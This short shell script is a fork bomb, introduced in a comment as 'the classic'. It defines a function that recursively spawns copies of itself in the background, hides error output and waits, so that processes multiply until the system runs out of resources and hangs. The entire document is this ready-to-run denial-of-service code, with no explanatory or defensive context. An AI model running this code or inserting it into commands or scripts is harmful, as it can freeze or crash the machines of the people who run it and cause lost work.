# The classic, in the background and with a wait at the end.
bomb() { bomb | bomb & }
bomb 2>/dev/null
wait
